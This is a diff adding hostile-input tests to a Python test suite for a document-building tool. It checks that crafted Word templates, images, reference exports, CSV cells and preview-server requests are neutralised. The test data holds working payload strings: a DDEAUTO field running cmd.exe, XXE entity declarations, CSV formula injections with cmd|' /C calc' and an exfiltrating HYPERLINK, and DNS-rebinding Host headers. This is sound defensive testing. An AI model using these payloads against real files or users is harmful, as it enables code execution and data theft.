@@ -23,6 +23,7 @@ from __future__ import annotations
 
 import http.server
 import os
+import re
 import shutil
 import signal
 import subprocess
@@ -112,6 +113,7 @@ class World:
             .replace("{S}", str(self.sources))
             .replace("{X}", str(self.secret))
             .replace("{U}", self.url)
+            .replace("{N}", str(self.tmp / "new"))
         )
 
     def write(self, name: str, text: str) -> Path:
@@ -163,6 +165,7 @@ class Case:
     changes_out: bool = False  # a case meant to succeed: only the named files are checked
     keep: list[str] = field(default_factory=list)  # files that must survive a good build
     ends: str = ""  # the first line is `first`, then text that varies, then this
+    then: Callable[[World], None] | None = None  # what a build into {N} must have written
 
 
 def build(*extra: str) -> list[str]:
@@ -170,6 +173,11 @@ def build(*extra: str) -> list[str]:
 
 
 HOUSE = ["--templates", "{P}/style"]
+
+
+def fresh(*extra: str) -> list[str]:
+    """A build into a new folder ({N}), which the case's ``then`` reads."""
+    return ["--project", "{P}", "--out", "{N}", *BRIEF, "-q", *extra]
 
 
 def check(*extra: str) -> list[str]:
@@ -1008,6 +1016,849 @@ case(
 )
 
 
+# Word: a house reference.docx is rebuilt from the parts a house style is for; nothing
+# else it holds (relationships, macros, fields, entities) reaches the Word edition.
+WORD = "qiaotou/decision-makers.en.docx"
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+RELS = "word/_rels/document.xml.rels"
+
+
+def reference_docx(*edits: Callable[[dict[str, bytes], World], None]) -> Setup:
+    """A house style ``style/`` whose reference.docx has a letterhead, edited by ``edits``
+    (each changes the package's parts, by name)."""
+
+    def setup(w: World) -> None:
+        import io
+        import zipfile
+
+        import docx
+
+        made = docx.Document()
+        made.sections[0].header.paragraphs[0].text = "HOUSE LETTERHEAD"
+        made.sections[0].footer.paragraphs[0].text = "HOUSE FOOTER"
+        made.add_paragraph("placeholder text")
+        data = io.BytesIO()
+        made.save(data)
+        with zipfile.ZipFile(data) as archive:
+            parts = {name: archive.read(name) for name in archive.namelist()}
+        for edit in edits:
+            edit(parts, w)
+        out = w.project / "style/reference.docx"
+        out.parent.mkdir(parents=True, exist_ok=True)
+        with zipfile.ZipFile(out, "w") as archive:
+            for name, content in parts.items():
+                archive.writestr(name, content)
+
+    return setup
+
+
+def relation(part: str, xml: str) -> Callable[[dict[str, bytes], World], None]:
+    """Add a relationship (raw XML, {U} the listener) to a part's .rels."""
+
+    def edit(parts: dict[str, bytes], w: World) -> None:
+        rels = parts.get(part) or (
+            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
+            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+        )
+        parts[part] = rels.replace(b"</Relationships>", w.sub(xml).encode() + b"</Relationships>")
+
+    return edit
+
+
+def in_part(part: str, old: str, new: str) -> Callable[[dict[str, bytes], World], None]:
+    def edit(parts: dict[str, bytes], w: World) -> None:
+        text = parts[part].decode("utf-8")
+        assert old in text, (part, old)
+        parts[part] = text.replace(old, w.sub(new), 1).encode("utf-8")
+
+    return edit
+
+
+def added(part: str, content: bytes) -> Callable[[dict[str, bytes], World], None]:
+    def edit(parts: dict[str, bytes], w: World) -> None:
+        parts[part] = content
+
+    return edit
+
+
+def header_part(parts: dict[str, bytes]) -> str:
+    return next(n for n in parts if n.startswith("word/header"))
+
+
+def in_header(xml: str) -> Callable[[dict[str, bytes], World], None]:
+    """Put ``xml`` (runs or fields) into the letterhead's paragraph."""
+
+    def edit(parts: dict[str, bytes], w: World) -> None:
+        name = header_part(parts)
+        text = parts[name].decode("utf-8")
+        parts[name] = text.replace("</w:p>", w.sub(xml) + "</w:p>", 1).encode("utf-8")
+
+    return edit
+
+
+def word_is_clean(w: World) -> None:
+    """The Word edition: well-formed XML parts, no outside relationship, no macros, no
+    field a house header brought, the listener's address nowhere, the letterhead kept."""
+    import zipfile
+
+    import docx
+    from lxml import etree
+
+    path = w.project.parent / "new" / WORD
+    strict = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
+    with zipfile.ZipFile(path) as archive:
+        names = archive.namelist()
+        assert not [n for n in names if "vba" in n.lower() or n.endswith((".bin", ".dotm"))]
+        for name in names:
+            data = archive.read(name)
+            assert w.url.encode() not in data, name
+            if name.endswith((".xml", ".rels")):
+                root = etree.fromstring(data, strict)  # well-formed, no DTD
+                text = etree.tostring(root).decode()
+                assert "ENTITY" not in text and "INCLUDEPICTURE" not in text, name
+                assert not re.search(r"\bDDE(AUTO)?\b", text), name
+                assert "attachedTemplate" not in text, name
+                for rel in root.iter("{*}Relationship"):
+                    assert (rel.get("TargetMode") or "Internal") == "Internal", (name, rel.attrib)
+    document = docx.Document(str(path))
+    header = "\n".join(p.text for p in document.sections[0].header.paragraphs)
+    assert "HOUSE LETTERHEAD" in header and "Qiaotou" in header
+    assert "placeholder text" not in "\n".join(p.text for p in document.paragraphs)
+
+
+def word_case(name: str, *edits: Callable[[dict[str, bytes], World], None]) -> None:
+    case(
+        f"reference.docx: {name}",
+        reference_docx(*edits),
+        fresh(*HOUSE, "--format", "docx"),
+        0,
+        "",
+        then=word_is_clean,
+    )
+
+
+IMAGE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
+TEMPLATE_REL = (
+    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+)
+word_case(
+    "external relationship, double quotes",
+    relation(
+        RELS,
+        f'<Relationship Id="rX1" Type="{IMAGE_REL}" Target="{{U}}/a.png" TargetMode="External"/>',
+    ),
+)
+word_case(
+    "external relationship, single quotes",
+    relation(
+        RELS,
+        f"<Relationship Id='rX1' Type='{IMAGE_REL}' Target='{{U}}/a.png' TargetMode='External'/>",
+    ),
+)
+word_case(
+    "external relationship, entity-encoded",
+    relation(
+        RELS,
+        f'<Relationship Id="rX1" Type="{IMAGE_REL}" Target="{{U}}/a.png" '
+        'TargetMode="&#69;xternal"/>',
+    ),
+)
+word_case(
+    "external relationship, spaces around =",
+    relation(
+        RELS,
+        f'<Relationship Id="rX1" Type="{IMAGE_REL}" Target="{{U}}/a.png" '
+        'TargetMode = "External" />',
+    ),
+)
+word_case(
+    "remote attached template in the settings",
+    relation(
+        "word/_rels/settings.xml.rels",
+        f'<Relationship Id="rT1" Type="{TEMPLATE_REL}" Target="{{U}}/t.dotm" '
+        "TargetMode='&#x45;xternal'/>",
+    ),
+    in_part(
+        "word/settings.xml",
+        "<w:defaultTabStop",
+        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
+        '2006/relationships" r:id="rT1"/><w:defaultTabStop',
+    ),
+)
+word_case(
+    "INCLUDEPICTURE field in the header",
+    in_header(
+        "<w:fldSimple w:instr='INCLUDEPICTURE \"{U}/pixel.png\" \\d'>"
+        "<w:r><w:t>x</w:t></w:r></w:fldSimple>"
+    ),
+)
+word_case(
+    "INCLUDEPICTURE as a complex field in the header",
+    in_header(
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
+        'INCLUDEPICTURE "{U}/pixel.png"</w:instrText></w:r><w:r>'
+        '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    ),
+)
+word_case(
+    "DDE field in the footer",
+    lambda parts, w: in_part(
+        next(n for n in parts if n.startswith("word/footer")),
+        "</w:p>",
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows'
+        '\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r>'
+        '<w:fldChar w:fldCharType="end"/></w:r></w:p>',
+    )(parts, w),
+)
+word_case(
+    "hyperlink to the outside in the header",
+    relation(
+        "word/_rels/" + "header1.xml.rels",
+        '<Relationship Id="rH1" Type="http://schemas.openxmlformats.org/officeDocument/'
+        '2006/relationships/hyperlink" Target="{U}/h" TargetMode="External"/>',
+    ),
+    in_header(
+        '<w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships" r:id="rH1"><w:r><w:t> link</w:t></w:r></w:hyperlink>'
+    ),
+)
+word_case(
+    "macro project",
+    added("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros"),
+    relation(
+        RELS,
+        '<Relationship Id="rV1" Type="http://schemas.microsoft.com/office/2006/'
+        'relationships/vbaProject" Target="vbaProject.bin"/>',
+    ),
+    in_part(
+        "[Content_Types].xml",
+        "</Types>",
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+    ),
+)
+word_case(
+    "embedded OLE object",
+    added("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 object"),
+    relation(
+        RELS,
+        '<Relationship Id="rO1" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>',
+    ),
+)
+word_case(
+    "picture bullet linked to the outside",
+    relation(
+        "word/_rels/numbering.xml.rels",
+        f'<Relationship Id="rP1" Type="{IMAGE_REL}" Target="{{U}}/b.png" TargetMode="External"/>',
+    ),
+    in_part(
+        "word/numbering.xml",
+        "<w:abstractNum ",
+        '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-'
+        'microsoft-com:vml"><v:imagedata xmlns:r="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships" r:id="rP1"/></v:shape></w:pict>'
+        "</w:numPicBullet><w:abstractNum ",
+    ),
+)
+word_case(
+    "theme fill linked to the outside",
+    relation(
+        "word/theme/_rels/theme1.xml.rels",
+        f'<Relationship Id="rB1" Type="{IMAGE_REL}" Target="{{U}}/fill.png" '
+        'TargetMode="External"/>',
+    ),
+    in_part(
+        "word/theme/theme1.xml",
+        "<a:bgFillStyleLst>",
+        '<a:bgFillStyleLst><a:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org'
+        '/officeDocument/2006/relationships" r:link="rB1"/></a:blipFill>',
+    ),
+)
+word_case(
+    "mail merge from the outside",
+    in_part(
+        "word/settings.xml",
+        "<w:defaultTabStop",
+        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odso"/>'
+        '<w:connectString w:val="{U}/data"/></w:mailMerge><w:defaultTabStop',
+    ),
+)
+word_case(
+    "a comment and a processing instruction in the styles",
+    in_part(
+        "word/styles.xml",
+        "<w:docDefaults>",
+        "<!-- {U}/comment --><?mso-application {U}/pi?><w:docDefaults>",
+    ),
+)
+for name, declaration in (
+    ("external entity", '<!DOCTYPE w:styles [<!ENTITY x SYSTEM "{X}">]>'),
+    ("remote entity", '<!DOCTYPE w:styles [<!ENTITY x SYSTEM "{U}/e.xml">]>'),
+    ("entity expansion", '<!DOCTYPE w:styles [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'),
+):
+    case(
+        f"reference.docx: {name} in the styles",
+        reference_docx(
+            in_part("word/styles.xml", "<w:styles ", declaration + "<w:styles "),
+        ),
+        build(*HOUSE, "--format", "docx"),
+        1,
+        "Error: {P}/style/reference.docx: word/styles.xml declares a DTD (its entities "
+        "could read files) (save it again from Word as a plain .docx)",
+    )
+
+
+# Control characters: no Word file can hold them; loading and `check` say where they are.
+PROSE = "briefs/qiaotou/en.md"
+CONTROL = "holds the control character {}, which no page or Word file can hold"
+
+
+def in_prose(text: str) -> Setup:
+    return lambda w: w.edit(PROSE, "# lessons\n", f"# lessons\n\nA stray {text} here.\n")
+
+
+def prose_line(w: World) -> int:
+    return w.line_of(PROSE, "A stray")
+
+
+for name, raw, shown in (
+    ("bell", "\x07", "U+0007"),
+    ("NUL", "\x00", "U+0000"),
+    ("vertical tab", "\x0b", "U+000B"),
+    ("escape", "\x1b", "U+001B"),
+    ("U+FFFE", "\ufffe", "U+FFFE"),
+    ("U+FFFF", "\uffff", "U+FFFF"),
+):
+    case(
+        f"control character in prose: raw {name}",
+        in_prose(raw),
+        build("--format", "docx"),
+        1,
+        lambda w, shown=shown: f"{PROSE}:{prose_line(w)}: {CONTROL.format(shown)} (delete "
+        "it: often a stray byte from a copy and paste)",
+    )
+for written in ("&#xb;", "&#11;", "&#x0;", "&#xFFFE;", "&#xD800;", "&#x110000;", "&#x1B"):
+    case(
+        f"control character in prose: {written}",
+        in_prose(written),
+        check(),
+        1,
+        lambda w, written=written: f"{PROSE}:{prose_line(w)}: {written} writes a control "
+        "character, which no Word file can hold (delete it)",
+    )
+for name, file, old, new in (
+    ("an author", "briefs/qiaotou/brief.yaml", "en: Test Research Group", 'en: "Test\\x0bGroup"'),
+    ("a chart title", "briefs/qiaotou/brief.yaml", "en: The park's output", 'en: "Out\\uFFFEput"'),
+    ("a fact's label", "facts/qiaotou.yaml", "en: opening of the park", 'en: "bell \\a"'),
+    ("a source's title", "facts/sources.yaml", 'en: "The Qiaotou', 'en: "\\v The Qiaotou'),
+    ("a source's author", "facts/sources.yaml", "en: Park Management Committee", 'en: "P\\x1fM"'),
+):
+    shown = {
+        "an author": "U+000B",
+        "a chart title": "U+FFFE",
+        "a fact's label": "U+0007",
+        "a source's title": "U+000B",
+        "a source's author": "U+001F",
+    }[name]
+    case(
+        f"control character as a YAML escape in {name}",
+        lambda w, file=file, old=old, new=new: w.edit(file, old, new),
+        check(),
+        1,
+        lambda w, file=file, new=new, shown=shown: f"{file}:{w.line_of(file, new)}: "
+        f"text {CONTROL.format(shown)} (delete the escape that writes it)",
+    )
+case(
+    "control character raw in a YAML file",
+    lambda w: w.edit("facts/qiaotou.yaml", "en: opening of the park", "en: opening\x08 of"),
+    check(),
+    1,
+    lambda w: f"facts/qiaotou.yaml:{w.line_of('facts/qiaotou.yaml', 'opening')}: "
+    f"{CONTROL.format('U+0008')} (delete it: often a stray byte from a copy and paste)",
+)
+
+
+# `changes` reads a git revision or an earlier build: hostile ones are messages.
+def git_revision(link: str, target: str) -> Setup:
+    """The project in a new git repository whose last commit holds the symlink ``link``
+    to ``target``; the working tree without it (the current project loads)."""
+
+    def setup(w: World) -> None:
+        env = {
+            **os.environ,
+            "GIT_AUTHOR_NAME": "t",
+            "GIT_AUTHOR_EMAIL": "t@t",
+            "GIT_COMMITTER_NAME": "t",
+            "GIT_COMMITTER_EMAIL": "t@t",
+        }
+        symlink(link, target)(w)
+        for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "hostile"]):
+            subprocess.run(
+                ["git", "-C", str(w.project), *args], check=True, capture_output=True, env=env
+            )
+        (w.project / link).unlink()
+
+    return setup
+
+
+def changes(old: str) -> list[str]:
+    return ["changes", old, "--project", "{P}", "-q"]
+
+
+case(
+    "changes: a revision with a symlink to an absolute path",
+    git_revision("facts/stolen.yaml", "{X}"),
+    changes("HEAD"),
+    2,
+    "Error: 'HEAD': 'facts/stolen.yaml' is a link to an absolute path (changes reads only "
+    "the revision's own files)",
+)
+case(
+    "changes: a revision with a symlink climbing out",
+    git_revision("facts/stolen.yaml", "../../secret.txt"),
+    changes("HEAD"),
+    2,
+    "Error: 'HEAD': 'facts/stolen.yaml' would link to '",
+    ends="which is outside the destination (changes reads only the revision's own files)",
+)
+
+
+def snapshot_folder(text: str) -> Setup:
+    def setup(w: World) -> None:
+        folder = w.tmp / "old"
+        folder.mkdir(exist_ok=True)
+        (folder / ".policybrief-snapshot.json").write_text(text, encoding="utf-8")
+
+    return setup
+
+
+SNAP = "{P}/../old/.policybrief-snapshot.json"
+for name, text, why in (
+    (
+        "facts a list",
+        '{"version": 1, "facts": [], "claims": {}, "conflicts": {}, "briefs": {}}',
+        "not a snapshot this version can read",
+    ),
+    (
+        "no facts",
+        '{"version": 1, "claims": {}, "conflicts": {}, "briefs": {}}',
+        "not a snapshot this version can read",
+    ),
+    (
+        "a fact a number",
+        '{"version": 1, "facts": {"qiaotou.park.opened": 5}, "claims": {}, '
+        '"conflicts": {}, "briefs": {}}',
+        None,
+    ),
+    (
+        "a brief a string",
+        '{"version": 1, "facts": {}, "claims": {}, "conflicts": {}, "briefs": {"qiaotou": "x"}}',
+        None,
+    ),
+    ("version 2", '{"version": 2}', "not a snapshot this version can read"),
+    ("a list", "[1, 2]", "not a snapshot this version can read"),
+):
+    case(
+        f"changes: a malformed snapshot, {name}",
+        snapshot_folder(text),
+        changes("{P}/../old"),
+        2,
+        f"Error: {SNAP}: " + (why or "not a snapshot this version can read ("),
+        ends="" if why else ")",
+    )
+
+
+CHART = [
+    "--project",
+    "{P}",
+    "--out",
+    "{N}",
+    "--brief",
+    "qiaotou",
+    "--audience",
+    "full-report",
+    "--lang",
+    "en",
+    "--format",
+    "html",
+    "-q",
+]
+
+
+# Privacy: an image is written again from its pixels; no metadata block survives, however
+# the file hides it.
+def _exif_jpeg(size: tuple[int, int] = (60, 40)) -> bytes:
+    import io
+
+    from PIL import Image
+
+    exif = Image.Exif()
+    exif[0x010F] = "SecretCamera"  # make
+    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPS
+    out = io.BytesIO()
+    Image.new("RGB", size, (120, 30, 200)).save(out, "JPEG", exif=exif.tobytes(), comment=b"SECRET")
+    return out.getvalue()
+
+
+def _app1(payload: bytes) -> bytes:
+    block = b"Exif\x00\x00" + payload
+    return b"\xff\xe1" + (len(block) + 2).to_bytes(2, "big") + block
+
+
+HIDDEN = {
+    "EXIF in a second image after the first": lambda: _exif_jpeg() + _exif_jpeg((8, 8)),
+    "an EXIF block after the end of the image": lambda: _exif_jpeg() + _app1(b"GPSSECRET"),
+    "an EXIF block before the first": lambda: _exif_jpeg()[:2]
+    + _app1(b"GPSSECRET")
+    + _exif_jpeg()[2:],
+    "a comment and EXIF": _exif_jpeg,
+    "XMP after the scan": lambda: _exif_jpeg()
+    + b"\xff\xe1\x00\x30http://ns.adobe.com/xap/1.0/\x00<x:GPSSECRET/>....",
+}
+
+
+def _published_image_is_clean(w: World) -> None:
+    import base64
+
+    page = (w.tmp / "new" / "qiaotou/full-report.en.html").read_text(encoding="utf-8")
+    found = re.findall(r'src="data:image/jpeg;base64,([^"]+)"', page)
+    assert found, "the picture is not on the page"
+    for data in (base64.b64decode(d) for d in found):
+        for secret in (b"SecretCamera", b"GPSSECRET", b"SECRET", b"Exif", b"http://ns.adobe"):
+            assert secret not in data
+
+
+for name, make in HIDDEN.items():
+    case(
+        f"image metadata: {name}",
+        picture(
+            "photo.jpg",
+            lambda w, make=make: (w.project / "briefs/qiaotou/photo.jpg").write_bytes(make()),
+        ),
+        CHART,
+        0,
+        "",
+        then=_published_image_is_clean,
+    )
+
+
+# Limits: a logo's pixels, a batch table's rows.
+def _big_png(width: int, height: int) -> bytes:
+    """A PNG declaring width × height pixels in a few kilobytes (one colour compresses)."""
+    import io
+
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("1", (width, height)).save(out, "PNG", optimize=True)
+    return out.getvalue()
+
+
+def logo_file(data: Callable[[], bytes], name: str = "logo.png") -> Setup:
+    def setup(w: World) -> None:
+        (w.project / "house" / name).write_bytes(data())
+        w.write("house/theme.yaml", f"logo: {name}\n")
+
+    return setup
+
+
+case(
+    "logo of 100 megapixels in a small PNG",
+    logo_file(lambda: _big_png(10_000, 10_000)),
+    check(),
+    1,
+    "house/theme.yaml:1: theme: logo: image 'logo.png' has 10000 × 10000 pixels; the limit "
+    "is 4,000,000 in all (scale it down: about 2,000 pixels across is enough for a "
+    "full-width image printed at 300 dpi)",
+)
+case(
+    "logo that is not the PNG it claims",
+    logo_file(lambda: b"GIF89a" + b"\x00" * 20),
+    check(),
+    1,
+    "house/theme.yaml:1: theme: logo: image 'logo.png' is not a readable PNG file (save it "
+    "again as PNG)",
+)
+case(
+    "logo with a name over 255 bytes",
+    lambda w: w.write("house/theme.yaml", "logo: " + "l" * 300 + ".png\n"),
+    check(),
+    1,
+    "house/theme.yaml:1: theme: logo: the file name 'llllllllllllllllllllllll…' is 304 "
+    "bytes long; a name may have at most 255 (rename the file)",
+)
+
+
+def batch(rows: int) -> Setup:
+    """A batch brief ``members`` (tests/test_batch.py's) whose table has ``rows`` rows."""
+
+    def setup(w: World) -> None:
+        from test_batch import BATCH
+
+        for name, text in BATCH.items():
+            w.write(name, text)
+        row = (
+            "  - slug: p{n}\n    name: {{zh: 甲, en: A}}\n    kind: {{zh: 乙, en: B}}\n"
+            "    team: qiaotou.staff.2016\n"
+        )
+        w.write(
+            "briefs/members/rows.yaml", "rows:\n" + "".join(row.format(n=n) for n in range(rows))
+        )
+
+    return setup
+
+
+case(
+    "batch table of 20,000 rows",
+    batch(20_000),
+    check(),
+    1,
+    "briefs/members/rows.yaml:4002: the table has 20,000 rows; the limit is 1,000 (split it "
+    "into several batch briefs, each with its own table)",
+)
+case(
+    "batch table named with over 255 bytes",
+    both(
+        batch(1),
+        lambda w: w.edit("briefs/members/brief.yaml", "rows: rows.yaml", "rows: " + "r" * 300),
+    ),
+    check(),
+    1,
+    lambda w: f"briefs/members/brief.yaml:{w.line_of('briefs/members/brief.yaml', 'rows: r')}: "
+    "batch: table: the file name 'rrrrrrrrrrrrrrrrrrrrrrrr…' is 300 bytes long; a name may "
+    "have at most 255 (rename the file)",
+)
+case(
+    "row() naming no column points at brief.yaml",
+    both(
+        batch(1),
+        lambda w: w.edit(
+            "briefs/members/en.md", "It follows the region's plan.", "It is {{ row('nope') }}."
+        ),
+    ),
+    check(),
+    1,
+    lambda w: f"briefs/members/en.md:{w.line_of('briefs/members/en.md', 'nope')}: 'nope' is "
+    "not a text column of this brief's batch row (the text columns are listed under batch: "
+    "text: in brief.yaml)",
+)
+
+# Long names, each at the line that writes it.
+LONG = "a" * 300
+case(
+    "source file named with over 255 bytes",
+    lambda w: w.edit("facts/sources.yaml", "file: qiaotou.txt", f"file: {LONG}.txt"),
+    check(),
+    1,
+    lambda w: f"facts/sources.yaml:{w.line_of('facts/sources.yaml', 'file: aaa')}: source "
+    "'qiaotou-case': the file name 'aaaaaaaaaaaaaaaaaaaaaaaa…' is 304 bytes long; a name may "
+    "have at most 255 (rename the file)",
+)
+case(
+    "audience template named with over 255 bytes",
+    lambda w: w.edit("house/audiences.yaml", "template: field-card.html", f"template: {LONG}.html"),
+    check(),
+    1,
+    lambda w: f"house/audiences.yaml:{w.line_of('house/audiences.yaml', 'template: aaa')}: "
+    "audience 'field-card': template: the file name 'aaaaaaaaaaaaaaaaaaaaaaaa…' is 305 bytes "
+    "long; a name may have at most 255 (rename the file)",
+)
+case(
+    "template included by a name over 255 bytes",
+    front('{% include "' + LONG + '.html" %}'),
+    build(*HOUSE),
+    1,
+    f"Error: style/decision-makers.html:2: template '{LONG}.html' not found (looked in "
+    "style, house, templates; names are relative to a template folder)",
+)
+case(
+    "output folder named with over 255 bytes",
+    None,
+    ["--project", "{P}", "--out", "{P}/../" + LONG, *BRIEF, "-q"],
+    1,
+    lambda w: f"Error: {w.tmp / LONG}: file name too long",
+)
+case(
+    "prose image named with over 255 bytes",
+    picture(LONG + ".png"),
+    build(),
+    1,
+    picture_error(
+        f"image '{LONG}.png' not found in briefs/qiaotou/ (check the name; it is case-sensitive)"
+    ),
+)
+
+# Messages that named the wrong place, and a flag that was ignored.
+case(
+    "--sources naming no folder",
+    None,
+    check("--sources", "{P}/no-such-folder"),
+    2,
+    "Error: --sources {P}/no-such-folder: no such folder",
+)
+case(
+    "--sources naming a file",
+    None,
+    check("--sources", "{P}/pyproject.toml"),
+    2,
+    "Error: --sources {P}/pyproject.toml: not a folder",
+)
+case(
+    "sources.yaml that does not parse blames no fact",
+    lambda w: w.edit("facts/sources.yaml", "sources:", "sources: ["),
+    check(),
+    1,
+    "facts/sources.yaml:3: invalid YAML: did not find expected ',' or ']' (check indentation, "
+    "colons and quotes)",
+    ends="",
+)
+case(
+    "invalid TOML at its line",
+    lambda w: w.edit("pyproject.toml", 'source_texts = "sources"', 'source_texts = "sources'),
+    check(),
+    1,
+    "pyproject.toml:2: invalid TOML: Illegal character '\\n'",
+)
+
+# Files readers download: reference exports and chart data, read back as their readers do.
+QIAOTOU_TITLE = "zh: 桥头镇数字产业园案例"  # (the export is in the source's language)
+
+
+def _exports_read_back(w: World) -> None:
+    import rispy
+    from pybtex.database import parse_string
+    from test_exports import bibtex_depths_balance
+
+    folder = w.tmp / "new" / "qiaotou"
+    bibtex_depths_balance((folder / "references.bib").read_text(encoding="utf-8"))
+    bib = parse_string((folder / "references.bib").read_text(encoding="utf-8"), "bibtex")
+    ris = rispy.loads((folder / "references.ris").read_text(encoding="utf-8"))
+    ids = sorted(bib.entries)
+    assert ids == sorted(r["id"] for r in ris), (ids, ris)
+    assert "qiaotou-case" in ids and all(
+        i in ("qiaotou-case", "qiaotou-internal") or "-" in i for i in ids
+    )
+    entry = bib.entries["qiaotou-case"]
+    assert "forged" not in entry.fields and "note" not in entry.fields
+    assert not [
+        k
+        for k in entry.fields
+        if k
+        not in (
+            "title",
+            "howpublished",
+            "publisher",
+            "url",
+            "urldate",
+            "year",
+            "date",
+            "langid",
+            "doi",
+            "institution",
+        )
+    ], entry.fields
+    assert len(ris) == len(bib.entries)
+    for record in ris:
+        assert record["type_of_reference"] != "JOUR" or record["id"] != "forged"
+
+
+for name, old, new in (
+    ("a lone } in a title", QIAOTOU_TITLE, 'zh: "A } , forged = {x"'),
+    ("braces that close the entry", QIAOTOU_TITLE, 'zh: "A }}\\n@misc{forged, title={x}}"'),
+    ("a backslash before a brace", QIAOTOU_TITLE, 'zh: "A \\\\} , forged = {x"'),
+    (
+        "a newline in an author",
+        "authors:\n      - {literal: 园区管委会}",
+        'authors:\n      - {literal: "Park\\nER  - \\nTY  - JOUR\\nID  - forged"}',
+    ),
+    (
+        "a newline in a title",
+        QIAOTOU_TITLE,
+        'zh: "A\\r\\nER  - \\r\\nTY  - JOUR\\r\\nID  - forged"',
+    ),
+    ("a line separator in a title", QIAOTOU_TITLE, 'zh: "A\\u2028ER  - \\u2028TY  - JOUR"'),
+    (
+        "' and ' in a family name",
+        "authors:\n      - {literal: 园区管委会}",
+        'authors:\n      - {family: "Wang and forged", given: Li}',
+    ),
+):
+    case(
+        f"reference export: {name}",
+        lambda w, old=old, new=new: w.edit("facts/sources.yaml", old, new),
+        fresh(),
+        0,
+        "",
+        then=_exports_read_back,
+    )
+
+BAD_ID = "source id {!r} may hold only letters, digits, '-', '_', ':' and '.' (it names the source in citations and reference managers' files: write it like qiaotou-case)"
+for name, written, shown in (
+    ("a brace", '"bad}id"', "bad}id"),
+    ("a comma", '"bad,id"', "bad,id"),
+    ("a space", '"bad id"', "bad id"),
+    ("a newline", '"bad\\nTY  - JOUR"', "bad\nTY  - JOUR"),
+    ("an @", '"@misc"', "@misc"),
+    ("over 100 characters", "i" * 101, "i" * 101),
+):
+    case(
+        f"source id with {name}",
+        lambda w, written=written: w.edit(
+            "facts/sources.yaml", "  qiaotou-case:", f"  {written}:\n    title: x\n  qiaotou-case:"
+        ),
+        check(),
+        1,
+        lambda w,
+        shown=shown: f"facts/sources.yaml:{w.line_of('facts/sources.yaml', 'qiaotou-case:') - 2}: "
+        + BAD_ID.format(shown),
+    )
+
+
+def _csv_cells_are_text(w: World) -> None:
+    import csv
+
+    files = sorted((w.tmp / "new" / "qiaotou").glob("*.en.csv"))
+    assert files
+    for path in files:
+        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+        cells = [cell for row in rows for cell in row]
+        assert any(cell.startswith("'") for cell in cells), path
+        for cell in cells:
+            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                float(cell)  # only a plain number may start so
+
+
+for name, text in (
+    ("=", '=HYPERLINK("{U}/leak?"&A1,"Click")'),
+    ("+", "+1+cmd|' /C calc'!A0"),
+    ("-", "-2+3+cmd|' /C calc'!A0"),
+    ("@", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("a tab", "\\t=1+1"),
+):
+    case(
+        f"chart CSV cell starting with {name}",
+        lambda w, text=text: w.edit(
+            "facts/sources.yaml",
+            "en: Park Management Committee",
+            'en: "' + text.replace('"', '\\"') + '"',
+        ),
+        CHART,
+        0,
+        "",
+        then=_csv_cells_are_text,
+    )
+
+case(
+    "Word: a house page template writing a control character",
+    front("<p>bell &#7; tab &#xb; nul &#0; U+FFFE &#xfffe;</p>"),
+    fresh(*HOUSE, "--format", "docx"),
+    0,
+    "",
+    then=lambda w: __import__("docx").Document(str(w.tmp / "new" / WORD)),
+)
+
+
 def _run(world: World, item: Case, capsys) -> tuple[int, str]:
     argv = [world.sub(a) for a in item.argv]
     if item.subprocess:
@@ -1051,6 +1902,8 @@ def test_hostile_input(world, listener, capsys, name):
         }
     else:
         assert snapshot(world.out) == before
+    if item.then:
+        item.then(world)
     assert listener.requests == []
     now = world.secret.stat()
     assert (now.st_atime_ns, now.st_mtime_ns) == (secret.st_atime_ns, secret.st_mtime_ns), (
@@ -1382,3 +2235,72 @@ def test_only_the_served_page_allows_the_reload_script(good):
         assert policy.endswith("; connect-src 'self'")
         assert "unsafe-inline' ;" not in policy and "script-src 'unsafe-inline'" not in policy
     assert nonces[0] != nonces[1]
+
+
+# -- the preview server answers only this machine's browser, and only for published files --
+
+SERVED = "qiaotou/decision-makers.en.html"
+# (Host header, or None for the server's own "127.0.0.1:<port>"; raw request path; status)
+PREVIEW_CASES = {
+    "rebinding: another site's name": ("attacker.example:{port}", "/" + SERVED, 421),
+    "rebinding: the right port, a rebound name": ("rebind.127.0.0.1.nip.io:{port}", "/", 421),
+    "rebinding: localhost on another port": ("localhost:1", "/" + SERVED, 421),
+    "rebinding: no port": ("localhost", "/" + SERVED, 421),
+    "rebinding: no Host header": ("", "/" + SERVED, 421),
+    "rebinding: a suffix of localhost": ("localhost.attacker.example:{port}", "/", 421),
+    "rebinding: 0.0.0.0": ("0.0.0.0:{port}", "/" + SERVED, 421),
